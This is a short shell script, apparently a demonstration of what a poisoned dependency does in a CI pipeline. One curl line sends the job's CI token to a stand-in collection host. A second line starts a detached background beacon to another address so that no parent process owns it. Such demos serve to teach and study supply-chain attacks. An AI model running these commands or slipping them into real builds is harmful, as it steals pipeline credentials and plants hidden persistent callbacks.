#!/bin/sh
# What a poisoned dependency does, played against the demo's own beacon server: it sends the job's token away,
# then leaves a beacon in the background whose maker ends at once, so that it belongs to nobody.
curl -s -H "Authorization: Bearer $CI_JOB_TOKEN" http://beacon.example/collect
(curl -s http://203.0.113.66/alive &)
